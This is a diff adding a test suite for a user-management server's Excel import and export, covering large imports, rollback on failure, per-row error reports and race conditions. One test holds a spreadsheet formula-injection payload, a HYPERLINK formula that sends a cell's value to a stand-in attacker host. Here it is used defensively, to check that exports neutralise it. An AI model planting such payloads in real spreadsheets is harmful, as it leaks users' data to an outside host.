@@ -1,0 +1,188 @@
+import ExcelJS from 'exceljs';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { userResource } from '../../modules/system/user/resource';
+import { apiCall, auth, createTestApp, login, type TestApp } from '../../../test/helpers/test-app';
+import type { ResourceHooks } from './types';
+
+// Imports through the resource framework, on the user resource (the one with hooks before and after):
+// the server keeps answering while a big file is imported, and a failed import leaves no row behind.
+
+let t: TestApp;
+let admin: string;
+beforeAll(async () => {
+  t = await createTestApp();
+  admin = await login(t.app);
+});
+afterAll(() => t.close());
+
+// The tests watch (and disturb) an import through the user resource's hooks; each puts them back.
+const hooks = userResource.hooks as ResourceHooks;
+const original = { beforeSave: hooks.beforeSave, afterImport: hooks.afterImport };
+afterEach(() => Object.assign(hooks, original));
+
+const HEADER = ['用户账号', '用户姓名', '工号', '性别', '手机号码', '电子邮件'];
+let serial = 0; // phone numbers are unique across every file of this test
+const userRow = (prefix: string, i: number) => [`${prefix}_${i}`, `批量${i}`, `${prefix}W${i}`, i % 2 ? '男' : '女', `137${String(serial++).padStart(8, '0')}`, `${prefix}${i}@example.com`];
+
+async function xlsx(rows: unknown[][]): Promise<Buffer> {
+  const wb = new ExcelJS.Workbook();
+  const ws = wb.addWorksheet('用户');
+  ws.addRow(HEADER);
+  for (const r of rows) ws.addRow(r);
+  return Buffer.from(await wb.xlsx.writeBuffer());
+}
+
+function importFile(file: Buffer) {
+  const boundary = '----anxue' + Math.random().toString(16).slice(2);
+  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="users.xlsx"\r\nContent-Type: application/octet-stream\r\n\r\n`;
+  return t.app.inject({
+    method: 'POST',
+    url: '/api/sys/user/importExcel',
+    payload: Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${boundary}--\r\n`)]),
+    headers: { ...auth(admin), 'content-type': `multipart/form-data; boundary=${boundary}` },
+  });
+}
+
+/** Everything an import writes: the users and their tenant memberships. */
+async function counts() {
+  const users = await t.db.selectFrom('sysUser').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
+  const members = await t.db.selectFrom('sysUserTenant').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
+  return { users: Number(users.n), members: Number(members.n) };
+}
+
+describe('importing without holding the server', () => {
+  it('answers another request while a 20,000-row import runs, before the import answers', { timeout: 180_000 }, async () => {
+    const ROWS = 20_000;
+    const file = await xlsx(Array.from({ length: ROWS }, (_, i) => userRow('bulk', i)));
+    const events: string[] = [];
+    let checked = 0;
+    let rowsWhenAnswered = -1;
+    let other: Promise<void> | undefined;
+    hooks.beforeSave = async (row, ctx, mode) => {
+      await original.beforeSave!(row, ctx, mode);
+      if (mode !== 'import' || ++checked !== 1000) return;
+      // The import is well under way (and on SQLite, before this change, held the only connection).
+      events.push('other request sent');
+      other = apiCall(t.app, admin, 'GET', '/sys/dict/getDictItems/sex').then((res) => {
+        expect(res.body.success).toBe(true);
+        rowsWhenAnswered = checked;
+        events.push('other request answered');
+      });
+    };
+    const res = await importFile(file);
+    events.push('import answered');
+    await other;
+    expect(res.json()).toMatchObject({ success: true, code: 200, message: `文件导入完成，共${ROWS}行，成功${ROWS}行，失败0行` });
+    expect(events).toEqual(['other request sent', 'other request answered', 'import answered']);
+    // answered while rows were still being checked, not merely before the answer went out
+    expect(rowsWhenAnswered).toBeGreaterThanOrEqual(1000);
+    expect(rowsWhenAnswered).toBeLessThan(ROWS);
+    const imported = await t.db.selectFrom('sysUser').select('id').where('username', 'like', 'bulk%').execute();
+    expect(imported).toHaveLength(ROWS);
+  });
+
+  it('writes nothing when an import fails midway, after several chunks were written', { timeout: 60_000 }, async () => {
+    const before = await counts();
+    let checked = 0;
+    let visibleMidway = -1;
+    hooks.beforeSave = async (row, ctx, mode) => {
+      await original.beforeSave!(row, ctx, mode);
+      if (mode !== 'import' || ++checked !== 2600) return;
+      // five chunks are written by now, yet none is in the real table for anyone else to see (nor would be
+      // after a crash at this point)
+      visibleMidway = (await t.db.selectFrom('sysUser').select('id').where('username', 'like', 'midway%').execute()).length;
+      throw new Error('disk on fire');
+    };
+    const res = await importFile(await xlsx(Array.from({ length: 3000 }, (_, i) => userRow('midway', i))));
+    expect(res.json()).toMatchObject({ success: false });
+    expect(visibleMidway).toBe(0);
+    expect(await counts()).toEqual(before);
+  });
+
+  it('writes nothing when writing the related rows fails at the end', { timeout: 60_000 }, async () => {
+    const before = await counts();
+    let chunks = 0;
+    hooks.afterImport = async (rows, ctx) => {
+      if (++chunks === 3) throw new Error('membership table gone');
+      await original.afterImport!(rows, ctx);
+    };
+    const res = await importFile(await xlsx(Array.from({ length: 2000 }, (_, i) => userRow('late', i))));
+    expect(res.json()).toMatchObject({ success: false });
+    expect(chunks).toBe(3);
+    expect(await counts()).toEqual(before);
+  });
+
+  it('imports the good rows of a big file and reports the one bad row, as before', { timeout: 60_000 }, async () => {
+    const rows = Array.from({ length: 3000 }, (_, i) => userRow('mixed', i));
+    rows[1700][3] = '未知'; // sex outside the dictionary
+    const res = await importFile(await xlsx(rows));
+    expect(res.json()).toMatchObject({ success: true, code: 201, message: '文件导入完成，共3000行，成功2999行，失败1行' });
+    expect(res.json().result.msg).toBe('总上传行数：3000，已导入行数：2999，错误行数：1');
+    const file = await t.app.inject({ method: 'GET', url: `/api/sys/common/static/${res.json().result.fileUrl}`, headers: auth(admin) });
+    const report = new ExcelJS.Workbook();
+    await report.xlsx.load(file.rawPayload as any);
+    const lines = (report.worksheets[0].getSheetValues() as unknown[][]).filter(Boolean).map((r) => r.slice(1));
+    expect(lines).toHaveLength(2);
+    expect(lines[1][0]).toBe(1702);
+    expect(lines[1][lines[1].length - 1]).toBe('性别必须是数字'); // the message of the type check, unchanged
+  });
+
+  it('never duplicates a unique value taken by another request during the import', { timeout: 60_000 }, async () => {
+    let checked = 0;
+    let sideInsert: Promise<unknown> | undefined;
+    hooks.beforeSave = async (row, ctx, mode) => {
+      await original.beforeSave!(row, ctx, mode);
+      // mixed: row 10's chunk was checked long ago; someone else now takes its account name
+      if (mode === 'import' && ++checked === 2600) {
+        sideInsert = t.db
+          .insertInto('sysUser')
+          .values({ id: 'race0000000000000000000000000001', username: 'race_10', realname: '抢先', password: 'x', status: 1 })
+          .execute()
+          .then(
+            () => 'inserted',
+            () => 'refused',
+          );
+      }
+    };
+    const res = await importFile(await xlsx(Array.from({ length: 3000 }, (_, i) => userRow('race', i))));
+    const side = await sideInsert;
+    const holders = await t.db.selectFrom('sysUser').select('realname').where('username', '=', 'race_10').execute();
+    expect(holders).toHaveLength(1);
+    const imported = await t.db.selectFrom('sysUser').select('id').where('username', 'like', 'race%').execute();
+    if (side === 'inserted') {
+      // SQLite: the import notices at its commit and writes nothing
+      expect(res.json()).toMatchObject({ success: false, message: '用户账号“race_10”在导入期间已被占用，本次导入未写入任何数据，请重新导入' });
+      expect(imported).toHaveLength(1);
+    } else {
+      // PostgreSQL: the other insert waited on the unique index and lost
+      expect(res.json()).toMatchObject({ success: true, message: '文件导入完成，共3000行，成功3000行，失败0行' });
+      expect(imported).toHaveLength(3000);
+    }
+  });
+});
+
+describe('formula injection', () => {
+  it('exports text that starts like a formula with a leading quote, and imports it back as it was', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
+    const add = await apiCall(t.app, admin, 'POST', '/sys/user/add', { username: 'formula_user', realname: evil, password: 'Formula#2026', confirmPassword: 'Formula#2026', telephone: '-5' });
+    expect(add.body.success, JSON.stringify(add.body)).toBe(true);
+    const res = await t.app.inject({ method: 'GET', url: '/api/sys/user/exportXls?username=formula_user', headers: auth(admin) });
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(res.rawPayload as any);
+    const sheet = wb.worksheets[0];
+    const header = (sheet.getRow(1).values as unknown[]).slice(1);
+    const cell = (title: string) => sheet.getRow(2).getCell(header.indexOf(title) + 1);
+    expect(cell('用户姓名').value).toBe(`'${evil}`);
+    expect(cell('用户姓名').type).toBe(ExcelJS.ValueType.String);
+    expect(cell('座机').value).toBe("'-5");
+    expect(cell('用户账号').value).toBe('formula_user');
+
+    // the same file back, under another account name: the quote we added is gone again
+    cell('用户账号').value = 'formula_back';
+    for (const title of ['工号', '手机号码', '电子邮件']) cell(title).value = null;
+    const back = await importFile(Buffer.from(await wb.xlsx.writeBuffer()));
+    expect(back.json(), back.body).toMatchObject({ success: true, code: 200 });
+    const row = await t.db.selectFrom('sysUser').select(['realname', 'telephone']).where('username', '=', 'formula_back').executeTakeFirstOrThrow();
+    expect(row).toEqual({ realname: evil, telephone: '-5' });
+  });
+});
